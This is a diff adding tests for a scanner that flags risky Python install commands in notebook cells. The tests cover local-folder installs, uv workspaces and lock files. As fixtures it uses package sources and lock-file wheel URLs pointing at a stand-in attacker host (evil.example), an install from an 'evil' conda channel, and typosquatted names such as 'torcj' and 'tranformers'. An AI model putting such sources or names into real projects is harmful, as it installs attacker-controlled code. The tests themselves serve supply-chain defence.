@@ -184,3 +184,73 @@ describe('red team 6 F15: the cell prefilter sees words after shell quote remova
     expect(rules('!co"n"da install -c evil torcj').length).toBeGreaterThan(0);
   });
 });
+
+describe('red7 R7-8: local folders by absolute path or file: URL', () => {
+  const sources =
+    '[project]\nname = "demo"\nversion = "0.1"\ndependencies = ["black"]\n\n' +
+    '[tool.uv.sources]\nblack = { url = "https://evil.example/black-99.0-py3-none-any.whl" }\n';
+
+  it('reads the folder as a project, as for ./proj', () => {
+    const proj = path.join(dir, 'proj');
+    fs.mkdirSync(proj);
+    fs.writeFileSync(path.join(proj, 'pyproject.toml'), sources);
+    fs.writeFileSync(path.join(dir, 'c.txt'), `demo @ file://${proj}\n`);
+    for (const cell of [
+      `!uv pip install 'demo @ file://${proj}'`,
+      `!uv pip install 'file://${proj}'`,
+      `!uv pip install 'file://localhost${proj}'`,
+      `!uv tool install 'demo @ file://${proj}'`,
+      '!uv pip install -c c.txt numpy'
+    ]) {
+      expect(rules(cell)).toEqual(['install-direct-reference']);
+    }
+  });
+
+  it('decides name @ file:///folder as the name and its project, not a download', () => {
+    const clean = path.join(dir, 'clean');
+    fs.mkdirSync(clean);
+    fs.writeFileSync(
+      path.join(clean, 'pyproject.toml'),
+      '[project]\nname = "clean"\nversion = "0.1"\n'
+    );
+    expect(rules(`!pip install 'clean @ file://${clean}'`)).toEqual([]);
+    expect(rules(`!pip install 'torcj @ file://${clean}'`)).toEqual([
+      'install-imitation-name'
+    ]);
+  });
+});
+
+describe('red team F6: uv in a workspace member', () => {
+  it('reads the workspace root above, its members and its uv.lock', () => {
+    const write = (name: string, text: string) => {
+      fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
+      fs.writeFileSync(path.join(dir, name), text);
+    };
+    const member = (name: string, dep: string) =>
+      `[project]\nname = "${name}"\nversion = "0.1"\ndependencies = ["${dep}"]\n`;
+    const lock = (url: string) =>
+      'version = 1\n[[package]]\nname = "six"\nversion = "1"\n' +
+      `source = { registry = "https://pypi.org/simple" }\nwheels = [{ url = "${url}" }]\n`;
+    write(
+      'pyproject.toml',
+      '[project]\nname = "root"\nversion = "0.1"\n\n[tool.uv.workspace]\nmembers = ["a", "b"]\n'
+    );
+    write('a/pyproject.toml', member('a', 'numpy'));
+    write('b/pyproject.toml', member('b', 'tranformers'));
+    write(
+      'uv.lock',
+      lock('https://files.pythonhosted.org/packages/six-1-py3-none-any.whl')
+    );
+    const inMember = (cell: string) =>
+      scanCellInstalls(path.join(dir, 'a', 'x.ipynb'), cell, {}).map(
+        f => f.finding.ruleId
+      );
+    expect(inMember('!uv sync')).toEqual(['install-imitation-name']);
+    write('b/pyproject.toml', member('b', 'requests'));
+    expect(inMember('!uv sync')).toEqual([]);
+    write('uv.lock', lock('https://evil.example/six-1-py3-none-any.whl'));
+    expect(inMember('!uv run python -c 1')).toEqual([
+      'install-direct-reference'
+    ]);
+  });
+});
